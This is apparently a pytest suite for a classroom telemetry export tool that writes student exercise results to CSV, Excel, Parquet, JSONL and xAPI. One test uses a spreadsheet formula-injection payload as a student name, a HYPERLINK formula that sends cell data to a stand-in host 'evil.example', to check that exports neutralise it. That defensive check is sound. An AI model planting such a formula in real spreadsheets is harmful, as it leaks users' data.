"""`ipynb-telemetry export`: a gradebook gets what the class has done."""

from __future__ import annotations

import csv
import json
import os
import subprocess
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet
import pytest
from classes import BEGAN, a_test, an_event, keep, keep_a_class, keep_figures, stored
from collectors import CollectorProcess
from commands import run_command
from xapi_form import XAPI

DONE, FAILED, USAGE = 0, 1, 2


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A class of twelve; one of them has corrected a typo, two have one name."""
    path = tmp_path_factory.mktemp("class") / "class.sqlite"
    keep_a_class(path)
    return path


@pytest.fixture
def collector(tmp_path: Path) -> Iterator[CollectorProcess]:
    with CollectorProcess(tmp_path) as collector:
        keep_a_class(collector.database)
        yield collector


def export(database: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return run_command("export", "--db", str(database), *arguments)


def results_in(ran: subprocess.CompletedProcess[str]) -> list[dict[str, str]]:
    assert ran.returncode == DONE, ran.stderr
    return [*csv.DictReader(ran.stdout.removeprefix("\ufeff").splitlines())]


def test_results_are_a_row_for_each_student_and_exercise(tmp_path: Path) -> None:
    omar: dict[str, Any] = {"student": "OMAR", "sess": "abcdef02"}
    database = tmp_path / "class.sqlite"
    keep(
        database,
        [
            an_event("start", 0, cohort="7A"),
            a_test(1, "exercise_1", ok=False, minute=1, cohort="7A"),
            a_test(2, "exercise_1", ok=True, attempt=2, minute=4, cohort="7A"),
            an_event("start", 0, **omar),
            a_test(1, "exercise_1", ok=True, minute=2, **omar),
            a_test(2, "exercise_2", ok=True, minute=2.5, **omar),
        ],
    )

    rows = results_in(export(database))

    columns = ["student", "notebook", "cohort", "exercise", "passed", "attempts", "first_try"]
    assert [[row[name] for name in (*columns, "minutes_to_pass")] for row in rows] == [
        ["OMAR", "D3_Datetimes", "", "exercise_1", "1", "1", "1", "2.0"],
        ["OMAR", "D3_Datetimes", "", "exercise_2", "1", "1", "1", "0.5"],
        ["SARA", "D3_Datetimes", "7A", "exercise_1", "1", "2", "0", "4.0"],
        ["SARA", "D3_Datetimes", "7A", "exercise_2", "0", "0", "0", ""],
    ]


def test_figures_that_a_collector_has_kept_change_nothing(tmp_path: Path, database: Path) -> None:
    copy = tmp_path / "class.sqlite"
    keep_a_class(copy)
    keep_figures(copy)
    keep(copy, [a_test(0, "exercise_1", ok=True, sess="abcdef09", student="NEW", minute=1)])

    new, old = results_in(export(copy)), results_in(export(database))

    assert [row for row in new if row["student"] != "NEW"] == old
    assert [row["passed"] for row in new if row["student"] == "NEW"] == ["1", "0", "0"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "parquet", "jsonl"])
def test_each_format_has_the_same_results(database: Path, tmp_path: Path, file_format: str) -> None:
    expected = [
        (row["student"], row["exercise"], row["passed"] == "1", int(row["attempts"]))
        for row in results_in(export(database))
    ]
    output = tmp_path / f"results.{file_format}"

    ran = export(database, "--output", str(output))

    assert ran.returncode == DONE
    assert f"{len(expected)} results in {output}." in ran.stderr
    assert ran.stdout == ""
    rows = read(output)
    names = ("student", "exercise", "passed", "attempts")
    found = [tuple(row[name] for name in names) for row in rows]
    assert [(s, e, str(p) in {"1", "True"}, int(a)) for s, e, p, a in found] == expected


def read(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".csv":
        return [*csv.DictReader(path.read_text("utf-8-sig").splitlines())]
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    if path.suffix == ".parquet":
        rows: list[dict[str, Any]] = pyarrow.parquet.read_table(path).to_pylist()
        return rows
    header, *values = openpyxl.load_workbook(path).active.values
    return [dict(zip(header, row, strict=True)) for row in values]


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "parquet", "jsonl"])
def test_events_are_all_there_each_with_its_uuid(
    database: Path, tmp_path: Path, file_format: str
) -> None:
    output = tmp_path / f"events.{file_format}"

    ran = export(database, "--events", "-o", str(output))

    assert ran.returncode == DONE
    assert [row["uuid"] for row in read(output)] == [event.uuid for event in stored(database)]


def test_one_notebooks_results_alone(database: Path, tmp_path: Path) -> None:
    copy = tmp_path / "class.sqlite"
    keep(copy, [a_test(0, "exercise_1", ok=True), a_test(1, "x", ok=True, notebook="D4")])

    rows = results_in(export(copy, "--notebook", "D3_Datetimes"))

    assert [row["exercise"] for row in rows] == ["exercise_1"]


def test_one_student_has_the_rows_that_the_whole_class_tells_of(database: Path) -> None:
    rows = results_in(export(database))
    name = min(rows, key=lambda row: int(row["attempts"]))["student"]

    own = results_in(export(database, "--student", name.lower()))

    assert own == [row for row in rows if row["student"] == name]


def test_results_of_another_time_are_other_statements(tmp_path: Path) -> None:
    database = tmp_path / "class.sqlite"
    keep(
        database,
        [
            a_test(0, "one", ok=False, sess="aaaa0001"),
            a_test(0, "one", ok=True, sess="aaaa0002", minute=24 * 60),
        ],
    )
    later = ("--since", (BEGAN + timedelta(hours=2)).isoformat())

    [all_of_it], again, [of_later] = (
        json.loads(export(database, "--format", "xapi", *since).stdout) for since in ((), (), later)
    )

    assert again == [all_of_it]
    assert all_of_it["result"] != of_later["result"]
    assert all_of_it["id"] != of_later["id"]


def test_a_link_and_a_pipe_stay_what_they_are(database: Path, tmp_path: Path) -> None:
    link, target = tmp_path / "link.csv", tmp_path / "target.csv"
    target.touch()
    link.symlink_to(target)

    export(database, "-o", str(link))
    to_nowhere = export(database, "--format", "csv", "-o", os.devnull)

    assert link.is_symlink()
    assert target.read_text("utf-8-sig") == export(database).stdout.removeprefix("\ufeff")
    assert to_nowhere.returncode == DONE
    assert not Path(os.devnull).is_file()


def test_a_student_who_corrected_the_name_is_found_by_either(tmp_path: Path) -> None:
    database = tmp_path / "class.sqlite"
    keep(
        database,
        [
            an_event("start", 0, student="SAR"),
            an_event("rename", 1, student="SARA", prev="SAR"),
            a_test(2, "exercise_1", ok=True),
            an_event("start", 0, student="OMAR", sess="abcdef02"),
        ],
    )

    for name in ("SAR", "sara"):
        rows = read_lines(export(database, "--events", "--format", "jsonl", "--student", name))
        assert [row["event"] for row in rows] == ["start", "rename", "test"]
    assert [row["student"] for row in results_in(export(database, "--student", "SAR"))] == ["SARA"]


def read_lines(ran: subprocess.CompletedProcess[str]) -> list[dict[str, Any]]:
    assert ran.returncode == DONE, ran.stderr
    return [json.loads(line) for line in ran.stdout.splitlines()]


def test_events_since_then_alone(database: Path) -> None:
    since = BEGAN.replace(minute=20).isoformat()

    rows = read_lines(export(database, "--events", "--format", "jsonl", "--since", since))

    expected = [event.uuid for event in stored(database) if event.timestamp >= since]
    assert [row["uuid"] for row in rows] == expected
    assert 0 < len(expected) < len(stored(database))


def test_a_running_collector_gives_the_same(collector: CollectorProcess) -> None:
    from_the_file = export(collector.database)

    by_address = run_command("export", "--from", f"{collector.url}/?token={collector.token}")
    by_token = run_command(
        "export", "--from", collector.url, environment={"TELEMETRY_TOKEN": collector.token}
    )

    assert results_in(from_the_file)
    assert by_address.stdout == by_token.stdout == from_the_file.stdout


def test_a_collector_gives_nothing_to_who_has_no_token(collector: CollectorProcess) -> None:
    ran = run_command("export", "--from", collector.url, "--token", "wrong")

    assert ran.returncode == FAILED
    assert "does not take the token" in ran.stderr
    assert ran.stdout == ""


@pytest.mark.parametrize("events", [False, True])
def test_a_name_cannot_run_as_a_formula(tmp_path: Path, *, events: bool) -> None:
    name = '=HYPERLINK("http://evil.example?"&A1,"click")'
    database, output = tmp_path / "class.sqlite", tmp_path / "results.xlsx"
    keep(database, [a_test(0, "@SUM(A1)", ok=True, student=name)])
    options = ["--events"] if events else []

    as_csv = export(database, *options).stdout
    export(database, *options, "-o", str(output))

    assert f"'{name}".replace('"', '""') in as_csv
    assert [*csv.reader(as_csv.splitlines())][1][0 if not events else 2] == f"'{name}"
    cells = [cell for row in openpyxl.load_workbook(output).active.rows for cell in row]
    assert name in [cell.value for cell in cells]
    assert "f" not in {cell.data_type for cell in cells}


def test_wrong_usage_says_what_works(database: Path) -> None:
    for arguments, words in (
        (["--format", "xlsx"], "add --output results.xlsx"),
        (["--output", "results.doc"], "say the --format"),
        (["--since", "yesterday"], "is no date or time"),
        (["--format", "pdf"], "'csv'"),
        (["--from", "127.0.0.1:8642"], "an address begins with http://"),
    ):
        ran = export(database, *arguments)
        assert ran.returncode == USAGE
        assert words in ran.stderr
        assert "Traceback" not in ran.stderr


def test_a_database_that_is_not_there_is_not_made(tmp_path: Path) -> None:
    ran = export(tmp_path / "none.sqlite")

    assert ran.returncode == FAILED
    assert "there is no database at" in ran.stderr
    assert not (tmp_path / "none.sqlite").exists()


def test_nothing_found_is_said(database: Path) -> None:
    ran = export(database, "--student", "Nobody")

    assert ran.returncode == DONE
    assert "There are no such results." in ran.stderr


def test_a_file_that_cannot_be_written_leaves_what_was_there(
    database: Path, tmp_path: Path
) -> None:
    output = tmp_path / "folder" / "results.csv"

    ran = export(database, "-o", str(output))

    assert ran.returncode == FAILED
    assert "results.csv" in ran.stderr
    assert "Traceback" not in ran.stderr


def test_an_export_that_fails_half_way_leaves_the_old_file(tmp_path: Path) -> None:
    output = tmp_path / "results.csv"
    output.write_text("old")

    ran = run_command("export", "--from", "http://127.0.0.1:9", "-o", str(output))

    assert ran.returncode == FAILED
    assert output.read_text() == "old"
    assert [path.name for path in tmp_path.iterdir()] == ["results.csv"]


def test_statements_are_in_the_form_that_xapi_asks_for(database: Path) -> None:
    for options in ([], ["--events"]):
        ran = export(database, "--format", "xapi", *options)

        statements = json.loads(ran.stdout)
        assert len(statements) > 20
        for statement in statements:
            XAPI.validate(statement)
        ids = [statement["id"] for statement in statements]
        assert len({*ids}) == len(ids)
        verbs = {statement["verb"]["id"].rpartition("/")[2] for statement in statements}
        assert {"passed", "failed"} <= verbs


def test_an_attempt_keeps_its_uuid_as_a_statement(tmp_path: Path) -> None:
    database = tmp_path / "class.sqlite"
    keep(database, [a_test(0, "exercise 1/2", ok=False)])

    (statement,) = json.loads(export(database, "--format", "xapi", "--events").stdout)

    assert statement["id"] == stored(database)[0].uuid
    assert statement["actor"]["account"]["name"] == "SARA"
    assert statement["verb"]["id"] == "http://adlnet.gov/expapi/verbs/failed"
    assert statement["object"]["id"].endswith("/notebooks/D3_Datetimes/exercises/exercise%201%2F2")
    assert statement["result"]["success"] is False
    assert statement["result"]["duration"] == "PT0.01S"
    assert statement["timestamp"] == BEGAN.isoformat()
